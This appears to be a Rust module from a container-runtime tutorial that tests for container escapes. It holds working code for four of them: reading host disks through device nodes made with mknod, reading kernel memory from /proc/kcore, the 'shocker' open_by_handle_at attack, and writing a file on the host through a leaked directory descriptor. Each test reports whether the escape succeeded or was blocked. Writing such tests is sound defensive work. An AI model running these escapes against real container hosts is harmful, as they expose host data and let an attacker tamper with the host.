//! The host's disks and memory, reached as devices and files: a device node made
//! with `mknod(2)`, the kernel's memory in `/proc/kcore`, a file opened by its
//! handle (`open_by_handle_at(2)`, the "shocker" attack of 2014), and a
//! directory the runtime forgot to close. What stops them: a user namespace
//! (chapter 9) and dropped capabilities and a device allow-list (chapter 10).
//! `man 2 mknod`, `man 5 proc` (kcore), `man 2 open_by_handle_at`.

use std::fs;
use std::io::{Read, Seek, SeekFrom};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;

use nix::sys::stat::{Mode, SFlag, makedev, mknod};

use super::{ensure_proc, errno, printable};

/// List the host's block devices (`/proc/partitions` is the kernel's, in every
/// container), make a device node for each (`mknod`, `CAP_MKNOD`) and read its
/// first sector. Whatever that holds (a partition table, a file system's boot
/// block) is the start of reading the whole disk, or of mounting it.
pub fn mknod_disk() -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let partitions = fs::read_to_string("/proc/partitions").unwrap_or_default();
    let mut refusals = Vec::new();
    for line in partitions.lines().skip(2) {
        let f: Vec<&str> = line.split_whitespace().collect();
        let (Some(major), Some(minor), Some(name)) = (f.first(), f.get(1), f.get(3)) else {
            continue;
        };
        let (Ok(major), Ok(minor)) = (major.parse(), minor.parse()) else { continue };
        let node = "/dev/.tincan-disk";
        let _ = fs::remove_file(node);
        let made =
            mknod(node, SFlag::S_IFBLK, Mode::from_bits_truncate(0o600), makedev(major, minor));
        if let Err(e) = made {
            refusals.push(format!("mknod {name}: {e}"));
            continue;
        }
        let mut sector = [0u8; 512];
        let read = fs::File::open(node).and_then(|mut disk| disk.read_exact(&mut sector));
        let _ = fs::remove_file(node);
        match read {
            Ok(()) => {
                return format!(
                    "ESCAPED: read {:?} from the host's disk {name} ({major}:{minor})",
                    printable(&sector)
                );
            }
            Err(e) => refusals.push(format!("read {name}: {e}")),
        }
    }
    if refusals.is_empty() {
        return "BLOCKED: no block devices listed in /proc/partitions".into();
    }
    format!("BLOCKED: {}", refusals.join("; "))
}

/// `/proc/kcore` is the kernel's memory as an ELF core file: a program header
/// per region. The first region is the kernel's own code (`_text`); we read
/// its first 32 bytes and report them with their offset in the file, which the
/// host can read too and compare. Opening it needs `CAP_SYS_RAWIO`.
pub fn read_kcore() -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let mut kcore = match fs::File::open("/proc/kcore") {
        Ok(file) => file,
        Err(e) => return format!("BLOCKED: open /proc/kcore: {e}"),
    };
    let mut header = [0u8; 64];
    if let Err(e) = kcore.read_exact(&mut header) {
        return format!("BLOCKED: read /proc/kcore: {e}");
    }
    if &header[..4] != b"\x7fELF" {
        return "BLOCKED: /proc/kcore is not the kernel's memory here (no ELF header)".into();
    }
    let u64_at = |b: &[u8], at: usize| u64::from_le_bytes(b[at..at + 8].try_into().unwrap());
    let (phoff, phnum) = (u64_at(&header, 32), u16::from_le_bytes([header[56], header[57]]));
    for i in 0..u64::from(phnum) {
        let mut ph = [0u8; 56];
        let read =
            kcore.seek(SeekFrom::Start(phoff + i * 56)).and_then(|_| kcore.read_exact(&mut ph));
        if read.is_err() || u32::from_le_bytes(ph[..4].try_into().unwrap()) != 1 {
            continue; // not a PT_LOAD segment
        }
        let offset = u64_at(&ph, 8);
        let mut bytes = [0u8; 32];
        return match kcore.seek(SeekFrom::Start(offset)).and_then(|_| kcore.read_exact(&mut bytes))
        {
            Ok(()) => format!("ESCAPED: kernel text at offset {offset}: {}", hex(&bytes)),
            Err(e) => format!("BLOCKED: read the kernel's text: {e}"),
        };
    }
    "BLOCKED: /proc/kcore has no memory segment".into()
}

/// The shocker attack (2014, against Docker 0.11): a file handle names a file by
/// its file system's own numbers, not by a path, so a path's walls do not apply
/// to it. The root directory of an ext2/3/4 file system always has the handle
/// {inode 2, generation 0}; `open_by_handle_at` with that handle, and any open
/// file of that file system to say which one, opens the host's root directory
/// of that disk, from which `file` is just a name away. Needs
/// `CAP_DAC_READ_SEARCH`. The open file: anything the runtime put there from
/// the host's disk (the working directory, `/etc/hosts`, which Docker mounts
/// from its directory on the host, and so do we).
pub fn shocker(file: &str) -> String {
    let mut refusals = Vec::new();
    for candidate in [".", "/", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname"] {
        let Ok(on_disk) = fs::File::open(candidate) else { continue };
        // struct file_handle { u32 handle_bytes; i32 handle_type; u8 f_handle[8] }
        // with FILEID_INO32_GEN (1): { u32 inode; u32 generation }.
        let mut handle = [0u8; 16];
        handle[..4].copy_from_slice(&8u32.to_ne_bytes());
        handle[4..8].copy_from_slice(&1i32.to_ne_bytes());
        handle[8..12].copy_from_slice(&2u32.to_ne_bytes());
        // SAFETY: the handle is a valid struct file_handle of the size it says.
        let fd = unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                on_disk.as_raw_fd(),
                handle.as_mut_ptr(),
                libc::O_RDONLY | libc::O_DIRECTORY,
            )
        } as i32;
        if fd < 0 {
            refusals.push(format!("{candidate}: {}", errno()));
            continue;
        }
        // SAFETY: the kernel just gave us this descriptor.
        let root = unsafe { OwnedFd::from_raw_fd(fd) };
        let path = format!("/proc/self/fd/{}/{file}", root.as_raw_fd());
        return match fs::read(&path) {
            Ok(bytes) => format!(
                "ESCAPED: through {candidate}'s disk, opened its root by handle and read {file}: {:?}",
                printable(&bytes)
            ),
            Err(e) => {
                format!("BLOCKED: opened a root by handle through {candidate}, but not {file}: {e}")
            }
        };
    }
    format!("BLOCKED: open_by_handle_at: {}", refusals.join("; "))
}

/// A runtime that leaks a directory descriptor of the host into the container
/// hands over the host's tree: from a descriptor, `..` climbs where the
/// container's root never lets a path go (runc's CVE-2024-21626 leaked
/// `/sys/fs/cgroup` this way). Try every inherited descriptor that is a
/// directory: climb to its top and create `host_file` there.
pub fn fd_leak(host_file: &Path) -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let relative = host_file.strip_prefix("/").unwrap_or(host_file);
    let fds: Vec<i32> = fs::read_dir("/proc/self/fd")
        .map(|d| d.flatten().filter_map(|e| e.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default();
    let mut directories = 0;
    for fd in fds.into_iter().filter(|fd| *fd > 2) {
        let link = format!("/proc/self/fd/{fd}");
        if !fs::metadata(&link).is_ok_and(|m| m.is_dir()) {
            continue;
        }
        directories += 1;
        let climbed = format!("{link}/{}{}", "../".repeat(64), relative.display());
        if fs::write(&climbed, "escaped\n").is_ok() {
            return format!(
                "ESCAPED: climbed out of inherited descriptor {fd}, created {}",
                host_file.display()
            );
        }
    }
    format!("BLOCKED: {directories} inherited directory descriptors; none led out")
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}
